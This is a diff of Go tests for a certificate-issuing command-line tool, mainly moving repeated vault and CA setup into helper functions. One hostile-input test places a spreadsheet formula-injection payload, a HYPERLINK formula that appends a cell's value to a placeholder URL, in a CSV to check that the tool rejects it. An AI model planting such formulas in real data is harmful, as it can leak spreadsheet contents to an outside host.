@@ -20,9 +20,7 @@ import (
 
 func TestBulkFromCSV(t *testing.T) {
 	t.Parallel()
-	s := newSession(t)
-	s.ok("init")
-	s.ok("ca", "create", "Team CA")
+	s := newSessionWithCA(t, "Team CA")
 	csvFile := s.write("team.csv", "name,email,org,ou,days\nAlice Example,alice@example.com,Acme,Ops,90\nBob,bob@example.com\nCarol,not-an-address\nDave,dave@example.com,Acme\n")
 	out, errOut, code := s.run("bulk", "--csv", csvFile, "--out", s.path("out"))
 	if code != 1 || !strings.Contains(out, "Issued 3 certificate(s), 1 row(s) failed") || !strings.Contains(errOut, "row 4 (Carol)") {
@@ -77,10 +75,7 @@ func TestBulkFromCSV(t *testing.T) {
 // reach stderr escaped and shortened.
 func TestBulkHostileCSV(t *testing.T) {
 	t.Parallel()
-	s := newSession(t)
-	s.ok("init", "--insecure-no-passphrase")
-	delete(s.vars, "CERTDESK_PASSPHRASE") // a passphrase given to a vault without one is an error
-	s.ok("ca", "create", "Team CA")
+	s := newInsecureSessionWithCA(t, "Team CA")
 	bare := s.write("bare.csv", "Ann,ann@example.com\n=HYPERLINK(\"http://x/\"&A2),a@example.com\n")
 	_, errOut, code := s.run("bulk", "--csv", bare, "--out", s.path("out"))
 	if code != 1 || !strings.Contains(errOut, "line 2") || strings.Contains(errOut, "panic") {
@@ -109,15 +104,8 @@ func TestCrashSafety(t *testing.T) {
 		fmt.Sscan(n, &kills)
 	}
 	bin := certctlBinary(t)
-	s := newSession(t)
-	s.ok("init", "--insecure-no-passphrase")
-	delete(s.vars, "CERTDESK_PASSPHRASE") // a passphrase given to a vault without one is an error
-	s.ok("ca", "create", "Crash CA")
-	var b strings.Builder
-	for i := range 1000 {
-		fmt.Fprintf(&b, "Person %d,p%d@example.com\n", i, i)
-	}
-	csvFile := s.write("people.csv", b.String())
+	s := newInsecureSessionWithCA(t, "Crash CA")
+	csvFile := s.write("people.csv", peopleCSV(1000))
 	lastCRL := int64(0)
 	completed := 0
 	for k := range kills {
@@ -181,10 +169,7 @@ func checkVault(t *testing.T, path string, lastCRL *int64) {
 
 func TestRenewAndReminder(t *testing.T) {
 	t.Parallel()
-	s := newSession(t)
-	s.ok("init", "--insecure-no-passphrase")
-	delete(s.vars, "CERTDESK_PASSPHRASE") // a passphrase given to a vault without one is an error
-	s.ok("ca", "create", "Acme")
+	s := newInsecureSessionWithCA(t, "Acme")
 	s.ok("issue", "--cn", "Soon", "--days", "10")
 	s.ok("issue", "--cn", "Later", "--days", "200")
 	s.ok("issue", "--cn", "Sooner", "--days", "5", "--key", "ed25519")
@@ -224,24 +209,12 @@ func TestRenewAndReminder(t *testing.T) {
 // stops, says nothing was stored, and the vault and folder show it.
 func TestBulkInterrupt(t *testing.T) {
 	t.Parallel()
-	s := newSession(t)
-	s.ok("init")
-	s.ok("ca", "create", "Team CA")
-	var rows strings.Builder
-	for i := range 400 {
-		fmt.Fprintf(&rows, "Person %d,p%d@example.com\n", i, i)
-	}
-	cmd := exec.Command(certctlBinary(t), "bulk", "--csv", s.write("big.csv", rows.String()), "--out", s.path("out"), "--key", "rsa-3072")
+	s := newSessionWithCA(t, "Team CA")
+	cmd := exec.Command(certctlBinary(t), "bulk", "--csv", s.write("big.csv", peopleCSV(400)), "--out", s.path("out"), "--key", "rsa-3072")
 	cmd.Env = append(os.Environ(), "CERTDESK_VAULT="+s.vars["CERTDESK_VAULT"], "CERTDESK_PASSPHRASE="+s.vars["CERTDESK_PASSPHRASE"])
-	var stderr strings.Builder
-	cmd.Stderr = &stderr
-	if err := cmd.Start(); err != nil {
-		t.Fatal(err)
-	}
+	stderr, done := started(t, cmd)
 	time.Sleep(1500 * time.Millisecond)
 	cmd.Process.Signal(os.Interrupt)
-	done := make(chan error, 1)
-	go func() { done <- cmd.Wait() }()
 	select {
 	case <-done:
 	case <-time.After(30 * time.Second):
@@ -265,10 +238,7 @@ func TestBulkInterrupt(t *testing.T) {
 func TestRenewKeepingKey(t *testing.T) {
 	t.Parallel()
 	openssl := peertest.Require(t, "openssl")
-	s := newSession(t)
-	s.ok("init", "--insecure-no-passphrase")
-	delete(s.vars, "CERTDESK_PASSPHRASE") // a passphrase given to a vault without one is an error
-	s.ok("ca", "create", "Acme")
+	s := newInsecureSessionWithCA(t, "Acme")
 	key, csr := s.path("kim.key"), s.path("kim.csr")
 	peertest.Run(t, openssl, "req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", key, "-subj", "/CN=Kim Keeps", "-out", csr)
 	s.ok("sign", "--csr", csr, "--days", "20")
@@ -301,16 +271,9 @@ func TestBulkKilledThenRerun(t *testing.T) {
 	t.Parallel()
 	bin := certctlBinary(t)
 	openssl := peertest.Require(t, "openssl")
-	s := newSession(t)
-	s.ok("init", "--insecure-no-passphrase")
-	delete(s.vars, "CERTDESK_PASSPHRASE") // a passphrase given to a vault without one is an error
-	s.ok("ca", "create", "Rerun CA")
+	s := newInsecureSessionWithCA(t, "Rerun CA")
 	const people = 1000
-	var b strings.Builder
-	for i := range people {
-		fmt.Fprintf(&b, "Person %d,p%d@example.com\n", i, i)
-	}
-	csvFile := s.write("people.csv", b.String())
+	csvFile := s.write("people.csv", peopleCSV(people))
 	out := s.path("out")
 	for k := range 4 {
 		cmd := exec.Command(bin, "bulk", "--csv", csvFile, "--out", out)
@@ -366,15 +329,8 @@ func TestBulkKilledThenRerun(t *testing.T) {
 // exits 0.
 func TestBulkFullDisk(t *testing.T) {
 	t.Parallel()
-	s := newSession(t)
-	s.ok("init", "--insecure-no-passphrase")
-	delete(s.vars, "CERTDESK_PASSPHRASE") // a passphrase given to a vault without one is an error
-	s.ok("ca", "create", "Team CA")
-	var b strings.Builder
-	for i := range 20 {
-		fmt.Fprintf(&b, "Person %d,p%d@example.com\n", i, i)
-	}
-	csvFile := s.write("team.csv", b.String())
+	s := newInsecureSessionWithCA(t, "Team CA")
+	csvFile := s.write("team.csv", peopleCSV(20))
 	mnt := peertest.Tmpfs(t, "24k")
 	out := filepath.Join(mnt, "out")
 	stdout, stderr, code := s.run("bulk", "--csv", csvFile, "--out", out)
